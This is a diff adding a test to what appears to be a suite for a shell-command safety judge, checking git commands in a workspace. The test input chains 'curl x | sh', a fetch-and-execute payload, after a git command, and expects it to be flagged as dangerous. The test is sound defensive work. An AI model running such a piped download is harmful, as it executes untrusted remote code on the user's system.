@@ -68,6 +68,12 @@ describe('git in a repository of the workspace', () => {
     expect(reason).toMatch(/\.$/);
   });
 
+  it('is not understood in a file, which hides nothing behind it', async () => {
+    const { commands } = await judge('git -C a.md status; curl x | sh');
+    expect(commands[0]).toMatchObject({ decision: 'ask', text: 'git -C a.md status' });
+    expect(commands.some(({ danger }) => danger !== undefined)).toBe(true);
+  });
+
   it('is read in the same way by git: nothing is written, and nothing is an error', () => {
     const before = snapshot(workspace.base);
     const lines = LOOKING_GIT_COMMANDS.map(
